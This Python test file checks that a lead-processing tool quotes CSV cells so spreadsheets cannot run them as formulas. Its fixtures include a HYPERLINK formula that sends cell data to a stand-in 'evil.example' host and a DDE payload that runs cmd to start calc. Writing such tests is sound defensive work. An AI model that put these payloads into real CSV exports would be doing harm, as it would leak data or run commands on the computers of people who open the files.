"""CSV injection (OWASP): every CSV leadflow writes holds no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from leadflow.cli import app
from leadflow.pipeline.csvsafe import defuse, defuse_cell, is_live_formula
from leadflow.pipeline.io import quarantine_path, write_leads, write_quarantine
from leadflow.pipeline.settings import SAMPLE_LEADS

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),  # quoted, then the CR is a newline (a bare CR would split the CSV row)
        ("x\r=1", "x\n=1"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("=1", "'=1"),
        ("-", "'-"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-.5e-3", "-.5e-3"),
        ("1e3", "1e3"),
        ("+14155550100", "+14155550100"),
        ("+1 415 555 0100", "'+1 415 555 0100"),  # not E.164 (spaces), not a number: starts a formula
        ("Ada\x00Lovelace", "AdaLovelace"),
        ("a\x01b\x08c\x0bd\x0ce\x0ef\x1fg\x7fh", "abcdefgh"),
        ("\x00=1", "'=1"),  # the control character goes first, then the formula is seen
        ("line one\nline two\tcol", "line one\nline two\tcol"),  # tab and newline inside text stay
        ("Acme, Inc.", "Acme, Inc."),
        ("ada@example.com", "ada@example.com"),  # `@` only matters at the start
        ("'=already quoted", "'=already quoted"),
        ("", ""),
    ],
)
def test_defuse_cell(cell: str, expected: str) -> None:
    assert defuse_cell(cell) == expected
    assert not is_live_formula(defuse_cell(cell))
    assert defuse_cell(expected) == expected  # idempotent


def test_defuse_frame_touches_only_text_and_keeps_the_input() -> None:
    frame = pd.DataFrame(
        {
            "company": pd.Series(["=1+1", "Acme", None, "=1+1"], dtype="string"),
            "mixed": pd.Series(["@x", -3, None, "ok"], dtype="object"),
            "employees": pd.Series([-5, 10, None, 3], dtype="Int64"),
            "score": [-1.5, 2.0, 3.0, 4.0],
            "=evil header": ["a", "b", "c", "d"],
        }
    )
    before = frame.copy()
    out = defuse(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert out["company"].tolist() == ["'=1+1", "Acme", pd.NA, "'=1+1"]
    assert str(out["company"].dtype) == "string"
    assert out["mixed"].tolist()[:2] == ["'@x", -3] and out["mixed"].tolist()[3] == "ok"
    pd.testing.assert_series_equal(out["employees"], frame["employees"])
    pd.testing.assert_series_equal(out["score"], frame["score"])
    assert list(out.columns)[-1] == "'=evil header"


def _cells(path: Path) -> list[str]:
    """Every cell (header included) as a spreadsheet would receive it: the raw CSV text, no type guessing."""
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_writers_defuse_csv_and_leave_parquet(tmp_path: Path) -> None:
    frame = pd.DataFrame({"email": ["a@b.co"], "company": [DDE], "first_name": ["x\x00y"]})
    out = write_leads(frame, tmp_path / "o.csv")
    cells = _cells(out)
    assert "'" + DDE in cells and "xy" in cells and not any(map(is_live_formula, cells))
    parquet = pd.read_parquet(write_leads(frame, tmp_path / "o.parquet"))
    assert parquet["company"].tolist() == [DDE]  # Parquet is not a spreadsheet format: kept as it came
    quarantine = pd.DataFrame({
        "stage": ["input"], "position": [0], "expectation": ["x"], "reason": ["-bad"], "lead_key": ["@k"],
        "row": [{"email": "=1", "company": HYPERLINK}],
    })
    cells = _cells(write_quarantine(quarantine, tmp_path / "q.csv"))
    assert {"'-bad", "'@k", "'=1", "'" + HYPERLINK} <= set(cells) and not any(map(is_live_formula, cells))


def _hostile_input(tmp_path: Path) -> tuple[Path, int]:
    frame = pd.read_csv(SAMPLE_LEADS, dtype="string", keep_default_na=False).head(30)
    hostile = pd.DataFrame(
        [
            {"lead_id": "00QHOSTILE00000001", "email": "h1@acme.com", "company": HYPERLINK, "first_name": "@SUM(A1)",
             "title": DDE, "city": "-2+3", "lead_source": "\t=1", "phone": "+14155550100"},
            {"lead_id": "00QHOSTILE00000002", "email": "h2@acme.com", "company": "Nul\x00Corp", "last_name": "\r=1",
             "state": "=cmd", "website": "@evil"},
            # refused at input (no identity), hostile cells in the quarantine CSV
            {"lead_id": "", "email": "", "first_name": HYPERLINK, "company": "@SUM(A1)"},
            # quarantined by a later stage (created_at is not a date)
            {"lead_id": "00QHOSTILE00000003", "email": "h3@acme.com", "created_at": "yesterday", "company": DDE,
             "first_name": "=1+1"},
        ]
    )
    path = tmp_path / "hostile.csv"
    data = pd.concat([frame, hostile]).fillna("")
    data.to_csv(path, index=False, lineterminator="\r\n")  # CRLF (RFC 4180): a field holding a CR is quoted
    return path, len(data)


@pytest.mark.prefect
def test_file_mode_run_writes_no_live_formula(prefect_api: str, state_home: Path, tmp_path: Path) -> None:
    source, rows_in = _hostile_input(tmp_path)
    out = tmp_path / "out" / "leads.csv"
    result = CliRunner().invoke(app, ["run", "--input", str(source), "--output", str(out)])
    assert result.exit_code == 0, result.output
    lead_cells, quarantine_cells = _cells(out), _cells(quarantine_path(out))
    live = [c for c in lead_cells + quarantine_cells if is_live_formula(c)]
    assert live == []
    # the hostile values arrived, defused, rather than being dropped
    assert "'" + HYPERLINK in lead_cells and "'" + HYPERLINK in quarantine_cells
    assert "'" + DDE in lead_cells and "'" + DDE in quarantine_cells
    assert "+14155550100" in lead_cells
    assert not any("\x00" in c for c in lead_cells + quarantine_cells)
    written = pd.read_csv(out, dtype="string", keep_default_na=False)
    quarantined = pd.read_csv(quarantine_path(out), dtype="string", keep_default_na=False)
    assert len(written) + len(quarantined) == rows_in
